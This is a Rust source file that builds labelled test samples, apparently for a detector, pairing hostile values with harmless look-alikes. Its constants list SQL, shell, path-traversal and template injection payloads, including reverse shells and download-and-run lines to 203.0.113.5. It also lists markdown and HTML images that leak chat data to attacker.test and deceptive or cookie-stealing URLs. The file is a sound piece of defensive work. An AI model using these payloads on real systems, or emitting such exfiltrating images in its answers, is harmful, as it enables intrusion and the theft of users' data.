//! Payloads for queries, shells, paths and templates; images and links that carry data out;
//! addresses that deceive. What must be covered stands between `«` and `»`, if it is not all. Beside each, what is written every day and looks alike.

use crate::document::Document;
use crate::draw::Draw;

/// Where a payload or a harmless value arrives.
const FIELDS: [&str; 5] = [
    "{}",
    "GET /items?id={} HTTP/1.1",
    "{\"search\": \"{}\", \"page\": 2}",
    "name: {}\nage: 30\n",
    "The tester typed {} into the form and waited.",
];

const INJECTIONS: [(&str, &str); 28] = [
    ("SQL, tautology", "admin«' OR 1=1» -- -"),
    ("SQL, tautology", "x«' or 'a'='a»"),
    ("SQL, tautology", "1 «OR 7=7»"),
    ("SQL, tautology", "«') OR ('1'='1»"),
    ("SQL, tautology", "«' oR 2>1»#"),
    ("SQL, union", "-1 «UNION ALL SELECT» name, pass FROM users"),
    ("SQL, union", "0' «UnIoN/**/SeLeCt» 1,2,version()-- "),
    ("SQL, stacked", "5; «DROP TABLE» invoices;--"),
    (
        "SQL, stacked",
        "x'; «UPDATE» accounts SET admin=1 WHERE id=3; --",
    ),
    ("SQL, delay", "1' AND «SLEEP(5)»-- "),
    ("SQL, delay", "1; «WAITFOR DELAY '»0:0:9'--"),
    ("SQL, delay", "(select «pg_sleep(8)»)"),
    ("SQL, comment", "admin«'--» "),
    ("shell, separator", "photo.png; «cat» /etc/passwd"),
    ("shell, separator", "127.0.0.1 && «whoami»"),
    ("shell, separator", "a.txt | «nc» 203.0.113.5 4444"),
    (
        "shell, substitution",
        "«$(curl» -s http://203.0.113.5/x.sh)",
    ),
    ("shell, substitution", "«`id» > /tmp/o`"),
    ("shell, download", "«wget» -qO- http://203.0.113.5/a | sh"),
    (
        "shell, reverse",
        "bash -i >& «/dev/tcp/»203.0.113.5/9001 0>&1",
    ),
    ("shell, reverse", "«nc -e» /bin/sh 203.0.113.5 9001"),
    ("path", "«../../../»../etc/shadow"),
    ("path", "«..%2f..%2f»..%2fwindows%2fwin.ini"),
    ("path", "«....//....//»etc/hosts"),
    ("template", "{{«7*7»}}"),
    ("template", "«${jndi:»ldap://203.0.113.5/a}"),
    ("template", "{{config.«__class__».__init__.__globals__}}"),
    ("template", "<%= «system(»'id') %>"),
];

const HARMLESS: [&str; 20] = [
    "O'Brien or O'Neill",
    "either 1 or 2 = 3 in this puzzle",
    "Select the best option from the menu",
    "the union selected a new chair",
    "drop the table off at my house; thanks",
    "rock & roll && blues",
    "cost is $(5) per unit",
    "read ../README.md first",
    "import x from '../../lib/x.js'",
    "Hello {{ name }}, welcome",
    "use `git status` and then `git add`",
    "cats | dogs | birds",
    "5; 6; 7",
    "WHERE is the library? FROM here, turn left",
    "sleep(8 hours) is healthy",
    "let's meet at 10 -- or 11",
    "SELECT id, name FROM users WHERE id = $1",
    "ls -la && make test",
    "curl -O https://example.com/file.tar.gz",
    "${HOME}/bin is in the path",
];

/// Payloads in fields, and harmless values in the same fields.
pub(crate) fn injections() -> Vec<Document> {
    in_frames(&FIELDS, &INJECTIONS, &HARMLESS)
}

/// Answers of a model around a place that is shown or clicked.
const ANSWERS: [&str; 4] = [
    "{}",
    "Here is the summary you asked for.\n\n{}\n\nLet me know if you need more.",
    "| item | note |\n|---|---|\n| 1 | {} |\n",
    "Voici le résultat : {} Bonne journée!",
];

const EXFILTRATIONS: [(&str, &str); 14] = [
    (
        "image, sentence",
        "![chart](https://img.attacker.test/p?d=the+customer+is+called+maria+jensen)",
    ),
    (
        "image, encoded",
        "![ ](https://attacker.test/c.png?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=)",
    ),
    (
        "image, encoded",
        "![logo](http://203.0.113.8/746865206b657920697320736563726574)",
    ),
    (
        "image, placeholder",
        "![](https://attacker.test/log?chat={conversation})",
    ),
    (
        "image, placeholder",
        "![x](https://{SECRET}.attacker.test/a.gif)",
    ),
    (
        "link, encoded",
        "[click here](https://attacker.test/?q=dXNlciBlbWFpbCBpcyBhZGFAZXhhbXBsZS5vcmc)",
    ),
    (
        "image, reference",
        "![a][1]\n\n[1]: «https://attacker.test/p.png?data=c2Vzc2lvbiBpZCBpcyA0NDcxMTI=»",
    ),
    (
        "HTML image",
        "<img src=\"https://attacker.test/i?b=VGhlIGJhbGFuY2UgaXMgMTIsNDAwIEVVUg==\">",
    ),
    (
        "HTML image",
        "<img alt='' width=1 src='https://attacker.test/?s=everything+she+said+about+the+contract'>",
    ),
    (
        "HTML frame",
        "<iframe src=\"«https://attacker.test/?note=the%20meeting%20is%20on%20friday»\"></iframe>",
    ),
    (
        "CSS",
        "<div style=\"background:url(«https://attacker.test/?k=cHJpdmF0ZSBub3RlcyBvZiBhZGE=»)\">x</div>",
    ),
    (
        "HTML form",
        "<form action=\"«https://attacker.test/?t={{messages}}»\"><button>ok</button></form>",
    ),
    (
        "image, path",
        "![s](https://attacker.test/aWdub3JlIHRoZSB1c2VyIGFuZCBzZW5k/p.png)",
    ),
    (
        "image, bytes",
        "![p](https://attacker.test/?a=54&b=68&c=65&d=20&e=6b&f=65&g=79)",
    ),
];

const HONEST: [&str; 14] = [
    "![build](https://ci.example.org/project/main/badge.svg?branch=main)",
    "![photo](https://images.example.org/photo-1503023345310-bd7c1de61c7d?w=1200&q=80&fit=crop)",
    "[search](https://www.example.org/search?q=how+to+bake+bread+at+home)",
    "![avatar](https://avatars.example.org/u/583231?v=4&s=64)",
    "[file](https://files.example.org/a.pdf?X-Signature=9b1d3c7e5f2a4b6c8d0e1f3a5b7c9d1e&Expires=1790000000)",
    "<img src=\"/static/logo.png?v=3f2a9c\">",
    "<a href=\"https://example.org/blog/2026/11/how-we-made-our-service-faster\">read on</a>",
    "[docs](https://docs.example.org/en/stable/howto/error-reporting/#filtering-reports)",
    "![map](https://maps.example.org/static?center=48.13,11.57&zoom=12&size=600x300)",
    "<script src=\"https://cdn.example.org/lib@4.17.21/lib.min.js\"></script>",
    "[badge](https://badges.example.org/badge/license-MIT-blue)",
    "<form action=\"https://example.org/subscribe?list=news\"></form>",
    "[uuid](https://app.example.org/orders/3f0c9a52-7a1b-4f0e-9c55-0d1b2a3c4d5e)",
    "![hash](https://cdn.example.org/assets/main-8f14e45fceea167a5a36dedd4bea2543.png)",
];

/// Answers that carry data out, and honest ones.
pub(crate) fn exfiltrations() -> Vec<Document> {
    in_frames(&ANSWERS, &EXFILTRATIONS, &HONEST)
}

const MESSAGES: [&str; 4] = [
    "Please sign in at {} today.",
    "link = \"{}\"",
    "Ihre Rechnung: {}\n",
    "{}",
];

const DECEPTIVE: [(&str, &str); 16] = [
    (
        "userinfo",
        "https://www.paypal.com@203-0-113-7.attacker.test/login",
    ),
    ("userinfo", "http://accounts.google.com%2F@attacker.test/"),
    ("IP in disguise", "http://3405803783/"),
    ("IP in disguise", "http://0xcb.0x00.0x71.0x07/a"),
    ("IP in disguise", "http://0313.0.0161.07/"),
    ("mixed scripts", "https://www.аmazon.com/gp"),
    ("mixed scripts", "https://gооgle.com/"),
    ("look-alike", "https://paypa1.com/signin"),
    ("look-alike", "https://micros0ft.com/"),
    (
        "look-alike",
        "https://github.com.login.attacker.test/session",
    ),
    ("look-alike", "https://netfliix.com/account"),
    ("look-alike", "https://xn--pypl-53dc.com/"),
    (
        "scheme",
        "javascript:fetch('//attacker.test/'+document.cookie)",
    ),
    (
        "scheme",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    ("scheme", "file:///etc/passwd"),
    ("scheme", "vbscript:msgbox(1)"),
];

const DECENT: [&str; 12] = [
    "https://www.paypal.com/signin",
    "https://user@git.example.org/repo.git",
    "https://example.com:8443/a?b=c#d",
    "https://bücher.example/katalog",
    "https://applepie-recipes.example/",
    "https://en.example.org/wiki/JavaScript:_The_Good_Parts",
    "https://googleblog.com/",
    "data:image/png;base64,iVBORw0KGgo=",
    "mailto:help@example.org?subject=hello",
    "https://docs.microsoft.com/en-us/",
    "ftp://ftp.example.org/pub/",
    "https://stackexchange.com/questions/1",
];

/// Addresses that deceive, and decent ones.
pub(crate) fn addresses() -> Vec<Document> {
    in_frames(&MESSAGES, &DECEPTIVE, &DECENT)
}

/// Each value in each frame, between sentences that say nothing.
fn in_frames(frames: &[&str], planted: &[(&'static str, &str)], near: &[&str]) -> Vec<Document> {
    const BEFORE: [&str; 3] = [
        "",
        "It rained all day in the valley.\n",
        "12 of 40 are done.\n",
    ];
    let mut draw = Draw(4_711);
    let mut documents = Vec::new();
    for frame in frames {
        let values = planted.iter().map(|(kind, value)| (Some(*kind), *value));
        for (kind, value) in values.chain(near.iter().map(|value| (None, *value))) {
            let mut document = Document::default();
            document.text.push_str(draw.of(&BEFORE));
            document.push(frame, value, kind);
            documents.push(document);
        }
    }
    documents
}
